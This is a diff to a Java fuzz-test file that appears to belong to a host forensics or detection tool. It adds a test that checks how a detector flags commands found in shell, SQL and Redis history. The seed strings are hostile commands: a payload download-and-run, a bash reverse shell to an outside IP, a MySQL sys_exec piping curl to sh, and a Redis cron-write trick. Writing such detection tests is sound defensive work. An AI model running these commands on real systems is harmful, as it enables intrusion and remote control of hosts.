@@ -2,7 +2,10 @@ package davy.range.fuzz;
 
 import static davy.range.fuzz.Target.check;
 
+import davy.agent.check.account.Typed;
 import davy.agent.check.file.WebPages;
+import davy.core.account.Accounts;
+import davy.core.account.History;
 import davy.core.compression.ByteReader;
 import davy.core.container.Containers;
 import davy.core.file.ByteSource;
@@ -14,6 +17,7 @@ import davy.core.login.LoginDatabase;
 import davy.core.sqlite.SqliteFile;
 import davy.core.startup.DesktopEntries;
 import davy.core.startup.Launch;
+import davy.core.text.RawText;
 import java.nio.charset.StandardCharsets;
 import java.time.Instant;
 import java.time.ZoneOffset;
@@ -100,6 +104,16 @@ final class UserTargets {
                                     "2026-01-02T03:04:05+0800 SUBDEBUG Installed:"
                                             + " curl-7.29.0-59.el7.x86_64\n",
                                     "Jan 02 03:04:05 Installed: nano-2.3.1-10.el7.x86_64\n")),
+                    Target.of(
+                            "typed-commands",
+                            "of a shell, of SQL and of Redis: in the order typed, each a command of"
+                                    + " its history, the same twice",
+                            UserTargets::typed,
+                            "wget -q http://198.51.100.7/x -O /tmp/x\nchmod +x /tmp/x\n/tmp/x &\n"
+                                    + "history -c\n",
+                            "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\nsudo cat /tmp/xmrig\n",
+                            "SELECT sys_exec('curl http://198.51.100.7/x | sh');\n",
+                            "CONFIG SET dir /var/spool/cron\nconfig set dbfilename root\n"),
                     Target.of(
                             "web-pages",
                             "as PHP, JSP and ASP, 16 KiB of each: the same twice",
@@ -236,6 +250,30 @@ final class UserTargets {
             count += summary("/var/log/" + names.get(i), pieces.get(i)).packages().size();
         }
         check(count <= lines(bytes) + 4, "how many changes", count);
+        return count;
+    }
+
+    private static long typed(byte[] bytes) {
+        var commands = RawText.decode(bytes).split("[\n\r]");
+        var entries = new ArrayList<History.Entry>();
+        for (int i = 0; i < commands.length; i++) {
+            entries.add(new History.Entry(i + 1, commands[i], null));
+        }
+        var user = Accounts.read(new BytesHost().with("/etc/passwd", PASSWD)).users().getFirst();
+        long count = 0;
+        for (String kind : List.of("bash", "mysql", "redis")) {
+            var history = new History(user, "/root/.history", kind, entries, 0, false);
+            var sightings = new Typed(history).sightings();
+            int last = 0;
+            for (var sighting : sightings) {
+                int line = sighting.entry().line();
+                check(line >= last, "not in order", last, line);
+                check(sighting.shown().equals(commands[line - 1]), "no command of the history");
+                last = line;
+            }
+            check(sightings.equals(new Typed(history).sightings()), "not the same twice", kind);
+            count += sightings.size();
+        }
         return count;
     }
 
